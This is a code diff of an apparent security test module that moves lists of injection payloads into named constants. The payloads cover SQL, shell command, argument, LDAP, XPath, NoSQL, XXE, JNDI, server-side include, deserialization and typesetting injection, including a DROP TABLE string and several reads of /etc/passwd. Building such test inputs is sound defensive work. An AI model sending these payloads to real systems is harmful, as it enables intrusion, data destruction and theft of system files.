@@ -29,121 +29,137 @@ HEADERS = (
 )
 
 
+QUOTES = ("'", '"', "`", "\\'", "')", '")', "'))", "%27", "\u2019", "\u02bc")
+STATEMENTS = (
+    "1; SELECT pg_sleep(9)",
+    "1 OR 1=1",
+    "%' OR '%'='",
+    "_",
+    "%",
+    "%%",
+    "\\%",
+    "[a-z]%",
+    "*",
+    "a*",
+    '"a" OR b',
+)
+SEARCHES = (
+    "NEAR(a b)",
+    "a AND",
+    "NOT",
+    "^a",
+    "col:x",
+    '"',
+    '""',
+    "'",
+    "a:*",
+    "a & b",
+    "a | !b",
+    "<->",
+    "(a",
+    "a)",
+)
+VALUES = (
+    "1/*",
+    "*/1",
+    "--",
+    "#",
+    ";",
+    "0x31",
+    "char(49)",
+    "$$a$$",
+    "$1",
+    ":name",
+    "?",
+    "@@version",
+    "E'\\\\'",
+)
+
+
 def statements() -> Iterator[str]:
     """Yield what would end a string of SQL."""
-    for quote in ("'", '"', "`", "\\'", "')", '")', "'))", "%27", "\u2019", "\u02bc"):
+    for quote in QUOTES:
         yield f"{quote} OR 1=1 --"
         yield f"{quote}; DROP TABLE partners_partner; --"
         yield f"{quote} UNION SELECT NULL,NULL,NULL --"
-    yield from (
-        "1; SELECT pg_sleep(9)",
-        "1 OR 1=1",
-        "%' OR '%'='",
-        "_",
-        "%",
-        "%%",
-        "\\%",
-        "[a-z]%",
-        "*",
-        "a*",
-        '"a" OR b',
-    )
-    yield from (
-        "NEAR(a b)",
-        "a AND",
-        "NOT",
-        "^a",
-        "col:x",
-        '"',
-        '""',
-        "'",
-        "a:*",
-        "a & b",
-        "a | !b",
-        "<->",
-        "(a",
-        "a)",
-    )
-    yield from (
-        "1/*",
-        "*/1",
-        "--",
-        "#",
-        ";",
-        "0x31",
-        "char(49)",
-        "$$a$$",
-        "$1",
-        ":name",
-        "?",
-        "@@version",
-        "E'\\\\'",
-    )
+    yield from STATEMENTS
+    yield from SEARCHES
+    yield from VALUES
+
+
+STARTS_OF_COMMANDS = (";", "|", "||", "&&", "&", "\n", "`", "$(", "<(", ">", ">>", "<")
+OPTIONS = (
+    "--help",
+    "-rf",
+    "-o ProxyCommand=x",
+    "@/etc/passwd",
+    "-",
+    "--",
+    "~",
+    "~root",
+    "$HOME",
+    "!!",
+    "$IFS",
+)
+DIRECTORY_FILTERS = ("*)(uid=*", "*)(|(uid=*))", "(&(a=b))", "\\2a", "admin*", ")(cn=*", "x)(!(a=b)")
+XPATHS = (
+    "' or '1'='1",
+    "//*",
+    "count(//a)",
+    "'] | //x | //['",
+    "document('x')",
+    "string(//a)",
+    "..//..",
+)
+DOCUMENT_QUERIES = (
+    '{"$gt":""}',
+    '{"$where":"1"}',
+    "[$ne]=1",
+    "a[]=1",
+    "$regex",
+    "';return 1;'",
+    "*:* AND x",
+    "{!lucene}x",
+)
+INCLUDES = (
+    "${jndi:ldap://x.example/a}",
+    "<!--#exec cmd='id'-->",
+    "<esi:include src='x'/>",
+    "<%@ page %>",
+    "<?php x();",
+)
+OBJECTS = (
+    "!!python/object:os.system",
+    "cos\nsystem\n(S'id'\ntR.",
+    'O:8:"stdClass":0:{}',
+    "rO0ABXNy",
+    "\\input{/etc/passwd}",
+)
+TYPESETTING = (
+    "#set text(1pt)",
+    '#read("/etc/passwd")',
+    '#eval("1")',
+    "$ x $",
+    "= Heading",
+    "@label",
+    "<label>",
+    "\\write18{id}",
+)
 
 
 def commands() -> Iterator[str]:
     """Yield what a shell, a directory or a document would run."""
-    for start in (";", "|", "||", "&&", "&", "\n", "`", "$(", "<(", ">", ">>", "<"):
+    for start in STARTS_OF_COMMANDS:
         yield f"{start} touch /tmp/{MARK}"
-    yield from (
-        "--help",
-        "-rf",
-        "-o ProxyCommand=x",
-        "@/etc/passwd",
-        "-",
-        "--",
-        "~",
-        "~root",
-        "$HOME",
-        "!!",
-        "$IFS",
-    )
-    yield from ("*)(uid=*", "*)(|(uid=*))", "(&(a=b))", "\\2a", "admin*", ")(cn=*", "x)(!(a=b)")
-    yield from (
-        "' or '1'='1",
-        "//*",
-        "count(//a)",
-        "'] | //x | //['",
-        "document('x')",
-        "string(//a)",
-        "..//..",
-    )
-    yield from (
-        '{"$gt":""}',
-        '{"$where":"1"}',
-        "[$ne]=1",
-        "a[]=1",
-        "$regex",
-        "';return 1;'",
-        "*:* AND x",
-        "{!lucene}x",
-    )
+    yield from OPTIONS
+    yield from DIRECTORY_FILTERS
+    yield from XPATHS
+    yield from DOCUMENT_QUERIES
     yield "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"
     yield "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;&b;&b;'>]><a>&c;</a>"
-    yield from (
-        "${jndi:ldap://x.example/a}",
-        "<!--#exec cmd='id'-->",
-        "<esi:include src='x'/>",
-        "<%@ page %>",
-        "<?php x();",
-    )
-    yield from (
-        "!!python/object:os.system",
-        "cos\nsystem\n(S'id'\ntR.",
-        'O:8:"stdClass":0:{}',
-        "rO0ABXNy",
-        "\\input{/etc/passwd}",
-    )
-    yield from (
-        "#set text(1pt)",
-        '#read("/etc/passwd")',
-        '#eval("1")',
-        "$ x $",
-        "= Heading",
-        "@label",
-        "<label>",
-        "\\write18{id}",
-    )
+    yield from INCLUDES
+    yield from OBJECTS
+    yield from TYPESETTING
 
 
 def headers() -> Iterator[str]:
